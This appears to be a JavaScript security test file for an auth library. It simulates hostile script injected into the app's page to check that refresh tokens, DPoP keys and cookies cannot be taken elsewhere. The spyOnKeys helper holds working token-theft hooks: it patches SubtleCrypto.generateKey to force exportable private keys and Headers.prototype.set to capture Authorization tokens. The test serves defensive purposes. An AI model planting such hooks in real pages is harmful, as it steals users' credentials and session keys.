// Hostile script in the app's own page, in the default mode: a cookie and a key. What it can't take along, and what it can do.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { createProver, makeKey } from "../../dist/proof.js";
import { fetchAll, startAttacker } from "../harness/attacker.mjs";
import { makeClient, openTab, startChromium } from "../harness/chromium.mjs";
import { somebody } from "../harness/relatch.mjs";
import { askEverything, exportKeys, findKeys, routesOf, spy, walkClient } from "../harness/script.mjs";
import { startWorld } from "../harness/world.mjs";

/** Has the page's key made so that it can be exported, which takes script that runs before the login. */
function spyOnKeys() {
  const { generateKey } = SubtleCrypto.prototype;
  SubtleCrypto.prototype.generateKey = function (algorithm, _, uses) {
    const pair = generateKey.call(this, algorithm, true, uses);
    window.made = pair.then(({ privateKey }) => crypto.subtle.exportKey("jwk", privateKey));
    return pair;
  };
  const { set } = Headers.prototype;
  window.stolen = [];
  Headers.prototype.set = function (name, value) {
    if (/^authorization$/i.test(name)) window.stolen.push(value.split(" ")[1]);
    return set.call(this, name, value);
  };
}

/** A stolen key, as the thief has it. */
async function importPair({ d, ...shown }) {
  const load = (jwk, uses) =>
    crypto.subtle.importKey("jwk", { ...jwk, key_ops: uses }, { name: "Ed25519" }, true, uses);
  return {
    privateKey: await load({ d, ...shown }, ["sign"]),
    publicKey: await load(shown, ["verify"]),
  };
}

describe("hostile script in the page", () => {
  let world;
  let browser;
  let attacker;
  before(async () => {
    [world, browser, attacker] = await Promise.all([startWorld(), startChromium(), startAttacker()]);
  });
  after(() => Promise.all([browser?.close(), world?.stop(), attacker?.stop()]));

  /** A visitor whose pages have the script in them from the first moment. */
  async function visitor(script, options) {
    const context = await browser.newContext();
    if (script) await context.addInitScript(script);
    const page = await openTab(context, world.pages.address, { issuer: world.issuer, ...options });
    const person = somebody();
    const { id } = await page.evaluate((person) => window.client.register(person), person);
    return { context, page, id };
  }
  const refreshing = () => `${world.issuer}/auth/refresh`;
  const me = () => `${world.issuer}/auth/me`;
  const call = (page) => page.evaluate(async (url) => (await window.client.fetch(url)).status, me());

  /** From elsewhere: the access token, by itself or with a proof of that key. */
  async function useElsewhere(token, key) {
    const headers = { Authorization: `${key ? "DPoP" : "Bearer"} ${token}` };
    if (key) {
      const prover = createProver({ now: Date.now }, world.issuer);
      headers.DPoP = await prover.prove(key, "GET", me(), token);
    }
    return (await fetch(me(), { headers })).status;
  }

  test("finds a refresh token nowhere: not in what the client does, holds or keeps, nor in any answer", async () => {
    const { context, page, id } = await visitor(spy);
    assert.equal(await call(page), 200);
    // With the page goes its access token, so that the next one refreshes.
    await page.reload();
    await makeClient(page, { issuer: world.issuer });
    assert.equal(await call(page), 200);
    await page.evaluate(findKeys);
    const answers = await page.evaluate(askEverything, {
      issuer: world.issuer,
      fills: { id },
      routes: await routesOf(world.issuer),
    });
    assert.ok(answers.length > 100, `${answers.length}`);
    // It can have the session refreshed, and gets an access token.
    assert.ok(answers.some((answer) => answer.startsWith("POST /auth/refresh 200")));
    const loot = await page.evaluate(() => window.loot.join("\n"));
    assert.ok(loot.includes('"access_token"'), "the spy saw no answer");
    const held = await page.evaluate(walkClient);
    const kept = await page.evaluate(() =>
      [document.cookie, JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage })].join(
        "\n",
      ),
    );
    const all = [loot, held, kept, ...answers].join("\n");
    assert.equal(all.match(/.{0,200}relatch_rt_/), null);
    await context.close();
  });

  test("gets the key out in no form, nor does another origin that it is handed to", async () => {
    const { context, page } = await visitor();
    assert.equal(await page.evaluate(findKeys), 1);
    assert.deepEqual(await page.evaluate(exportKeys), []);
    const [popup] = await Promise.all([
      context.waitForEvent("page"),
      page.evaluate((url) => {
        window.opened = window.open(url);
      }, attacker.address("attacker.localhost")),
    ]);
    await popup.waitForLoadState();
    await popup.evaluate(() => {
      window.onmessage = ({ data }) => {
        window.keys = data;
      };
    });
    await page.evaluate(() => window.opened.postMessage(window.keys, "*"));
    await popup.waitForFunction(() => window.keys);
    // What arrives is a handle: it signs there, too, and says no more of what it is made of.
    const signed = await popup.evaluate(async () => {
      const [key] = window.keys;
      const algorithm = { name: key.algorithm.name, hash: "SHA-256" };
      return (await crypto.subtle.sign(algorithm, key, new Uint8Array(1))).byteLength;
    });
    assert.equal(signed, 64);
    assert.deepEqual(await popup.evaluate(exportKeys), []);
    // And the cookie does not work from there.
    const calls = ["cors", "no-cors"].map((mode) => ({
      url: refreshing(),
      method: "POST",
      body: "{}",
      mode,
    }));
    const from = world.proxy.of("/auth/refresh").length;
    assert.deepEqual(await popup.evaluate(fetchAll, { calls }), []);
    const answers = world.proxy.of("/auth/refresh").slice(from);
    assert.deepEqual(
      answers.map(({ status, withCookie }) => ({ status, withCookie })),
      calls.map(() => ({ status: 415, withCookie: false })),
    );
    await context.close();
  });

  test("acts as the user while the page is open, and takes nothing along that is of use elsewhere", async () => {
    const { context, page } = await visitor(spy);
    assert.equal(await call(page), 200);
    const token = await page.evaluate(() => window.stolen.at(-1));
    assert.match(token, /^eyJ/);
    assert.equal(await useElsewhere(token), 401);
    assert.equal(await useElsewhere(token, await makeKey()), 401);
    assert.equal(await call(page), 200);
    await context.close();
  });

  test("that was there when the key was made has access tokens that work elsewhere, and no refresh token", async () => {
    const { context, page } = await visitor(spyOnKeys);
    assert.equal(await call(page), 200);
    const { token, jwk } = await page.evaluate(async () => ({
      token: window.stolen.at(-1),
      jwk: await window.made,
    }));
    const key = await importPair(jwk);
    assert.equal(await useElsewhere(token, key), 200);
    const prover = createProver({ now: Date.now }, world.issuer);
    const headers = {
      "Content-Type": "application/json",
      DPoP: await prover.prove(key, "POST", refreshing()),
      Origin: world.pages.address,
    };
    const answer = await fetch(refreshing(), { method: "POST", headers, body: "{}" });
    assert.equal((await answer.json()).code, "no_session");
    await context.close();
  });
});
